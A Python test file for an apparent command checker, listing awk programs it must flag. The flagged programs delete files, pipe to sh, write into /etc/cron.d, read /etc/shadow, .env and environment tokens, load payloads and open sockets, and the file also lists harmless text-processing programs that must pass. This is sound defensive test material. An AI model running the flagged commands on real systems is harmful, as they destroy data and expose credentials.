"""The language of awk (B4)."""

from . import allowed, stopped, told

ACTS = r"""
awk '{system("rm "$1)}' f
awk 'BEGIN{system("rm x")}'
awk -v c='rm x' 'BEGIN{system(c)}'
awk 'BEGIN{"date"|getline d; "rm x"|getline}'
awk 'BEGIN{c="rm x"; c|getline}'
awk '{print $0 | "sh"}' f
awk '{print | $1}' f
awk '{print > "../x"}' f
awk '{print > "/etc/cron.d/x"}' f
awk '{printf "%s", $0 >> "/etc/x"}' f
awk '{print > $1".txt"}' f
awk '{print > ("../" $1)}' f
awk 'BEGIN{while(("cat /etc/shadow")|getline l)print l}'
awk 'BEGIN{getline l < "/etc/shadow"; print l}'
awk 'BEGIN{while((getline l < ".env")>0) print l}'
awk '{print ENVIRON["TOKEN"]}' f
awk -f evil.awk f
awk "$P" f
gawk '@load "filefuncs"; BEGIN{}' f
gawk -e 'BEGIN{system("rm x")}' f
gawk -i inplace '{print}' f
gawk -l ./payload 'BEGIN{}'
gawk 'BEGIN{s="/inet/tcp/0/x.example/80"; print "x" |& s}'
gawk 'BEGIN{f="system"; @f("rm x")}'
awk 'BEGIN{system("# it\047s\nrm x")}'
awk 'BEGIN{system("# c\nrm x")}'
echo 'rm x' | awk '{print|"sh"}'
awk 'BEGIN { system ("rm x") }'
awk '/x/{print >"../y"}' f
"""


def test_programs_that_write_run_or_look_further_are_seen() -> None:
    assert allowed(ACTS) == []


READS = r"""
awk '{print $1}' a
awk -F: '{print $1}' a
awk -F'|' -v OFS=',' '{print $1,$2}' a
awk '/x/' a
awk '!seen[$0]++' a
awk '$1 > 10' a
awk 'length > 80' a
awk '{ if ($1 > 5) print $2; else print $3 }' a
awk '{print ($1 > 2)}' a
awk 'NR==FNR{m[$1]=$2" "$3; next} {print $0, m[$1]}' b a
awk 'BEGIN{FS="|"} {printf "%s\t%s\n",$1,$2}' a
awk '{gsub(/a\/b/,"c"); print}' a
awk '{print $1/2, $2 / 3}' a
awk '/[/]/{print}' a
awk '$1 ~ /^(a|b)$/ || $2 > 3' a
awk '{print > "out.txt"}' a
awk '{print > "/dev/stderr"}' a
awk '{print | "sort -n"}' a
awk 'BEGIN{"date"|getline d; print d}'
awk '{split($0,a,"/"); print a[1]}  # comment' a
awk '{print $NF}' x=1 a
n=3; awk "NR==$n" a
awk 'function f(x) { return x*2 } {print f($1)}' a
"""


def test_programs_that_only_print_run() -> None:
    assert stopped(READS) == []


def test_files_that_are_named_in_the_program_are_read_and_written() -> None:
    assert told("awk '{print > \"out\"}' a") == {"write_ws out", "read a"}
    assert told("awk 'BEGIN{getline l < \"b\"}'") == {"read b"}
